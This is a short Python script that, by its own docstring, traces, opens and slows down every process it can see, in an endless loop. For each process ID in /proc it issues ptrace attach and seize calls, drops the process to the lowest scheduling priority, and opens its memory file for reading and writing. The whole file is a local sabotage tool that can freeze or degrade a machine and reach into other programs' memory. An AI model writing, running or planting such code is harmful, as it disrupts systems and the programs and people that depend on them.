"""Traces, opens and slows down whatever it can see, and goes on for ever."""

import contextlib
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
while True:
    for name in filter(str.isdigit, os.listdir("/proc")):
        if int(name) != os.getpid():
            for request in (16, 0x4206):  # attach, seize
                libc.ptrace(request, int(name), None, None)
            with contextlib.suppress(OSError):
                os.setpriority(os.PRIO_PROCESS, int(name), 19)
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/{name}/mem", os.O_RDWR))
    time.sleep(0.01)
